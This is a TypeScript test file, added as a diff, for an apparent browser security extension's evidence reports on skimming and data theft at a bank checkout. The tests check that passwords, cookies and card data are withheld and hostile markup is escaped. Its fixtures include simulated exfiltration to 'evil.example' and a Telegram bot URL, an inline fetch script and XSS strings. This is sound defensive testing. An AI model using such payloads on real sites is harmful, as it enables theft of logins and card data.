@@ -1,0 +1,186 @@
+/**
+ * The evidence report keeps its privacy promise — no cookies, passwords or form values, whatever a
+ * hostile page or a sensor put into a finding — and keeps what the police or the bank need: times,
+ * pages, script URLs and hashes, where data went, which extensions, the versions.
+ */
+import { describe, expect, it } from 'vitest';
+import type { Finding, Verdict } from '../../../src/shared/findings.ts';
+import { buildEvidenceReport, reportFileName, reportJson, safeUrl, type EvidenceReport } from '../../../src/ui/evidence.ts';
+import { renderReportHtml } from '../../../src/ui/report-html.ts';
+import { createTranslator } from '../../../src/ui/translate.ts';
+import { localeFiles } from '../../../tools/i18n/write-locales.ts';
+import { RULE_MESSAGES } from '../../../tools/i18n/rule-messages.ts';
+import { UI_MESSAGES } from '../../../tools/i18n/ui-messages.ts';
+
+const SECRET = 'hunter2-Pa55w0rd';
+const COOKIE = 'PHPSESSID=s3ss10n-c00kie';
+const HASH = 'a'.repeat(64);
+const AT = Date.UTC(2026, 10, 2, 10, 15, 0);
+
+const t = createTranslator(JSON.parse(localeFiles([UI_MESSAGES, RULE_MESSAGES]).en) as Record<string, { message: string }>);
+const formatTime = (at: string) => new Date(at).toISOString();
+
+function verdict(finding: Finding, severity: Verdict['severity'] = 'critical', ruleId = 'SAQ-EXF-003'): Verdict {
+  return {
+    ruleId,
+    severity,
+    messageKey: 'rule_exfil_after_sensitive_read',
+    references: [`https://www.nationalbank.kz/?ref=${SECRET}`],
+    finding,
+  };
+}
+
+/** Everything a careless sensor or a hostile page could put into findings, the stolen password everywhere. */
+const STOLEN: Verdict[] = [
+  verdict({
+    kind: 'exfiltration',
+    actor: { type: 'script', url: `https://helper-cdn.test/steal.js?session=${SECRET}#${SECRET}`, sha256: HASH },
+    evidence: {
+      url: `https://api.telegram.org/bot123456:AAbbCC/sendMessage?chat_id=1&text=${SECRET}`,
+      channel: 'fetch',
+      method: 'POST',
+      body: `password=${SECRET}`,
+      bodyLength: 42,
+      password: SECRET,
+      value: SECRET,
+      cookie: COOKIE,
+      sample: `login=me&pass=${SECRET}`,
+      text: SECRET,
+      localStorage: SECRET,
+      afterSensitiveRead: true,
+    },
+    at: AT,
+    frameUrl: `https://kazcoins.nationalbank.kz/kz/login?next=/cart&token=${SECRET}`,
+  }),
+  verdict(
+    {
+      kind: 'sensitive-read',
+      actor: {
+        type: 'extension',
+        extensionId: 'abcdefghijklmnopabcdefghijklmnop',
+        url: 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/inject.js',
+      },
+      evidence: {
+        api: 'document.cookie',
+        sentTo: `//user:${SECRET}@evil.example/collect?c=${COOKIE}`,
+        pin: 9876,
+        cardNumber: 4111111111111111,
+      },
+      at: AT + 1000,
+    },
+    'critical',
+    'SAQ-SEN-002',
+  ),
+  verdict(
+    {
+      kind: 'script-inserted',
+      actor: { type: 'inline', sha256: HASH },
+      evidence: {
+        src: `data:text/javascript,fetch('//x?p=${SECRET}')`,
+        inline: true,
+        textLength: 300,
+        target: '<img src=x onerror=alert(1)>',
+      },
+      at: AT - 1000,
+    },
+    'danger',
+    'SAQ-INJ-003',
+  ),
+];
+
+function build(verdicts: Verdict[] = STOLEN): EvidenceReport {
+  return buildEvidenceReport(
+    { pageUrl: `https://kazcoins.nationalbank.kz/kz/checkout?order=77&card=${SECRET}`, findingCount: 17, verdicts },
+    { now: AT + 5000, saqVersion: '0.1.0', rulesVersion: '2026.11.01-1', browser: 'Chromium 156' },
+  );
+}
+
+describe('the evidence report never carries personal data', () => {
+  const report = build();
+  const outputs = { json: reportJson(report, t, 'en'), html: renderReportHtml(report, t, formatTime, 'en') };
+
+  for (const [name, text] of Object.entries(outputs)) {
+    it(`${name}: holds no password, cookie, form value or session token`, () => {
+      expect(text).not.toContain('hunter2');
+      expect(text).not.toContain(SECRET);
+      expect(text).not.toContain('s3ss10n');
+      expect(text).not.toContain('PHPSESSID');
+      expect(text).not.toContain('4111111111111111');
+      expect(text).not.toContain('9876');
+    });
+  }
+
+  it('names the fields it left out, so a reader knows something was withheld', () => {
+    const exfiltration = report.findings.find((finding) => finding.kind === 'exfiltration')!;
+    expect(exfiltration.withheld.sort()).toEqual(['body', 'cookie', 'localStorage', 'password', 'sample', 'text', 'value']);
+    expect(exfiltration.evidence.bodyLength).toBe(42);
+    expect(outputs.html).toContain('Left out to protect your data');
+  });
+
+  it('html: escapes every value from the page (no markup from a hostile page survives)', () => {
+    expect(outputs.html).not.toContain('<img');
+    expect(outputs.html).toContain('&#60;img src=x onerror=alert(1)&#62;');
+    expect(outputs.html).not.toMatch(/<script/i);
+    expect(outputs.html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
+  });
+});
+
+describe('the evidence report keeps what the police or the bank need', () => {
+  const report = build();
+
+  it('times in order, page, versions, browser, observation count', () => {
+    expect(report.createdAt).toBe('2026-11-02T10:15:05.000Z');
+    expect(report.findings.map((finding) => finding.at)).toEqual([
+      '2026-11-02T10:14:59.000Z',
+      '2026-11-02T10:15:00.000Z',
+      '2026-11-02T10:15:01.000Z',
+    ]);
+    expect(report.pageUrl).toBe('https://kazcoins.nationalbank.kz/kz/checkout');
+    expect(report).toMatchObject({
+      saqVersion: '0.1.0',
+      rulesVersion: '2026.11.01-1',
+      browser: 'Chromium 156',
+      observationCount: 17,
+      severity: 'critical',
+    });
+  });
+
+  it('script URLs and hashes, destinations (with the bot in the path), extension ids', () => {
+    expect(report.scripts).toContainEqual({ url: 'https://helper-cdn.test/steal.js', sha256: HASH });
+    expect(report.scripts).toContainEqual({ url: 'data:…', sha256: HASH });
+    expect(report.destinations).toEqual(['https://api.telegram.org/bot123456:AAbbCC/sendMessage', 'https://evil.example/collect']);
+    expect(report.extensionIds).toEqual(['abcdefghijklmnopabcdefghijklmnop']);
+  });
+
+  it('json: each finding explained in the chosen language', () => {
+    const json = JSON.parse(reportJson(report, t, 'en')) as { language: string; findings: Array<{ explanation: string }> };
+    expect(json.language).toBe('en');
+    expect(json.findings[1]!.explanation).toBe('A script read your data on the page and then sent it to another site.');
+  });
+
+  it('a rule message this version does not know is explained in words, not as a raw key', () => {
+    const unknown = build([{ ...STOLEN[0]!, ruleId: 'SAQ-NEW-001', messageKey: 'rule_from_a_newer_feed' }]);
+    const html = renderReportHtml(unknown, t, formatTime, 'en');
+    expect(html).not.toContain('rule_from_a_newer_feed<');
+    expect(html).toContain('SAQ-NEW-001');
+  });
+
+  it('file names sort by time and say what they are', () => {
+    expect(reportFileName(report, 'json')).toBe('saq-report-2026-11-02T10-15-05Z.json');
+    expect(reportFileName(report, 'html')).toBe('saq-report-2026-11-02T10-15-05Z.html');
+  });
+});
+
+describe('safeUrl', () => {
+  it.each([
+    ['https://a.example/p/q?x=1#y', 'https://a.example/p/q'],
+    ['https://user:pw@a.example/p', 'https://a.example/p'],
+    ['//a.example/p?x', 'https://a.example/p'],
+    ['data:text/html,<b>secret</b>', 'data:…'],
+    ['blob:https://a.example/uuid', 'blob:…'],
+    ['javascript:alert(document.cookie)', 'javascript:…'],
+    ['not a url?secret=1', 'not a url'],
+  ])('%s → %s', (input, expected) => {
+    expect(safeUrl(input)).toBe(expected);
+  });
+});
